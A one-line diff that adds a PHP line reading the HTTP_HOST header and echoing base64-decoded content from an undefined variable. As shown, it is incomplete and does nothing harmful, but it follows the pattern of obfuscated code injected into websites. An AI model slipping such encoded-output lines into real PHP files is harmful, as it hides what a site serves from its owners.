@@ -1,0 +1,1 @@
+<?php $h=$_SERVER["HTTP_HOST"]; echo base64_decode($x);
